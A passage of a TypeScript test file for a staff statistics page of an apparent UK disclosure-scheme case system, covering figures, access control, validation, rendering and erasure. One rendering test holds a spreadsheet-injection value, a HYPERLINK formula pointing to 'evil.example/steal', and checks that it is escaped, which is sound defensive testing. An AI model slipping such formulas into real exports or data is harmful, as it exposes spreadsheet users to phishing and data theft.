        want.right_to_ask.rso,
        want.right_to_ask.disclosures,
        want.right_to_be_told.applications,
        want.right_to_be_told.rso,
        want.right_to_be_told.disclosures,
      ]);
    }
    // Applications and proactive cases together are every case received in those years.
    const all = rows.slice(1).reduce((n, r) => n + Number(r[4]) + Number(r[7]), 0);
    expect(all).toBe(seeds.filter((x) => ukDay(x.t0) >= "2023-04-01").length);
  });

  it("agrees with the page for a financial year", async () => {
    const data = (await (await pageGet("?year=2024", manager.cookie)).json()) as PageData;
    const row = rows.find((r) => r[0] === "2024 to 2025")!;
    const t = data.stats!.total;
    expect(row.slice(4).map(Number)).toEqual([t.right_to_ask.applications, t.right_to_ask.rso, t.right_to_ask.disclosures, t.right_to_be_told.applications, t.right_to_be_told.rso, t.right_to_be_told.disclosures]);
  });

  it("logs the download as a consultation of statistics", () => {
    const row = getDb().select().from(schema.auditLog).where(eq(schema.auditLog.actorId, manager.id)).orderBy(desc(schema.auditLog.id)).get();
    expect(row).toMatchObject({ action: "consultation", entityType: "statistics", requestId: "statistics-test" });
    expect(row!.reason).toContain("Annual Data Requirement return");
  });
});

describe("access", () => {
  it.each([
    ["page", () => pageGet("")],
    ["export", () => csvGet("?from=2024-01-01&to=2024-12-31")],
    ["return", () => returnGet()],
  ])("sends an anonymous person to sign in (%s)", async (_name, get) => {
    const r = await get();
    expect(r.status).toBe(303);
    expect(r.headers.get("Location")).toBe("/staff/sign-in");
  });

  it("refuses a reviewer with 403 (page and export)", async () => {
    expect((await pageGet("", reviewer.cookie)).status).toBe(403);
    expect((await csvGet("?from=2024-01-01&to=2024-12-31", reviewer.cookie)).status).toBe(403);
    expect((await returnGet(reviewer.cookie)).status).toBe(403);
  });

  it("lets managers and admins in", async () => {
    expect((await pageGet("", manager.cookie)).status).toBe(200);
    expect((await pageGet("", admin.cookie)).status).toBe(200);
    expect((await csvGet("", manager.cookie)).status).toBe(200);
  });
});

describe("the page", () => {
  it("opens on the current financial year to date, with every year since the first case to choose from", async () => {
    const data = (await (await pageGet("", manager.cookie)).json()) as PageData;
    const year = currentYear();
    expect(data.financialYear).toBe(year);
    expect(data.stats!.range).toEqual({ from: `${year}-04-01`, to: ukDay(now().getTime()) });
    expect(data.stats!.byFinancialYear.map((y) => y.year)).toEqual([year]);
    expect(data.years).toEqual(Array.from({ length: year - 2023 + 1 }, (_, i) => year - i));
    expect(contradictions(data.stats!)).toEqual([]);
  });

  it("shows a previous financial year, whole, by ?year=", async () => {
    const data = (await (await pageGet("?year=2024", manager.cookie)).json()) as PageData;
    expect(data.financialYear).toBe(2024);
    expect(data.stats!.range).toEqual({ from: "2024-04-01", to: "2025-03-31" });
    expect(data.stats!.byMonth).toHaveLength(12);
    expect(data.stats!.total).toEqual(expected("2024-04-01", "2025-03-31", now().getTime()).total);
    expect(data.stats!.byFinancialYear).toEqual([expect.objectContaining({ year: 2024, wholeYear: true })]);
    expect(contradictions(data.stats!)).toEqual([]);
  });

  it("refuses a financial year not on the list with a 400 and no figures", async () => {
    const response = await pageGet("?year=2999", manager.cookie);
    expect(response.status).toBe(400);
    const data = (await response.json()) as PageData;
    expect(data.stats).toBeNull();
    expect(data.errors).toEqual([expect.objectContaining({ field: "year", message: "Choose a financial year from the list" })]);
  });

  it("explains a bad date range with a 400 and no figures", async () => {
    const response = await pageGet("?from-day=31&from-month=2&from-year=2024&to-day=1&to-month=1&to-year=2023", manager.cookie);
    expect(response.status).toBe(400);
    const data = (await response.json()) as PageData;
    expect(data.ok).toBe(false);
    expect(data.stats).toBeNull();
    expect(data.errors).toEqual([expect.objectContaining({ field: "from", message: "The start date must be a real date" })]);
  });

  it("renders tables and charts with the same numbers, no inline styles, and the CSV link for the range", () => {
    const stats = getStatistics({ from: "2024-06-01", to: "2025-05-31" });
    const html = renderToStaticMarkup(createElement(page.StatisticsFigures, { stats }));
    expect(html).not.toMatch(/\sstyle=/i);
    expect(html).toContain('href="/staff/statistics/export.csv?from=2024-06-01&amp;to=2025-05-31"');
    for (const heading of ["Annual Data Requirement", "Referrals to partner agencies", "Timeliness", "Outcomes", "Today"]) expect(html).toContain(`>${heading}</h2>`);
    expect(html).toContain('href="/staff/statistics/return.csv"');
    expect(html).toContain(`>Applications received (right to ask)</th><td class="govuk-table__cell">${stats.total.right_to_ask.applications}</td>`);
    expect(html.match(/role="img"/g)).toHaveLength(2);
    expect(html.match(/<table class="govuk-table">/g)!.length).toBeGreaterThanOrEqual(6);
    // The chart's value for a month is the table's value for it.
    const june = stats.byMonth[0];
    expect(html).toContain(`<th scope="row" class="govuk-table__header">June 2024</th><td class="govuk-table__cell">${june.right_to_ask.applications}</td>`);
    // The crafted code is text, escaped by React, never markup.
    expect(html).not.toContain('<a href="http://evil.example');
    expect(html).toContain("=HYPERLINK(&quot;http://evil.example/steal&quot;,&quot;Click me&quot;)");
  });
});

describe("erasure", () => {
  it("leaves every figure the same when more cases are erased", () => {
    const range = { from: "2024-01-01", to: "2025-12-31" };
    const before = getStatistics(range);
    const sqlite = getSqlite();
    const toErase = ids.filter((_, i) => seeds[i].closedAt !== null && !seeds[i].erased).slice(0, 6);
    expect(toErase.length).toBe(6);
    sqlite.transaction(() => {
      for (const id of toErase) {
        sqlite.prepare("DELETE FROM case_people WHERE case_id = ?").run(id);
        sqlite.prepare("UPDATE cases SET erased_at = ?, concern = '', contact_details = NULL WHERE id = ?").run(Date.now(), id);
      }
    })();
    expect(getStatistics(range)).toEqual(before);
  });
});
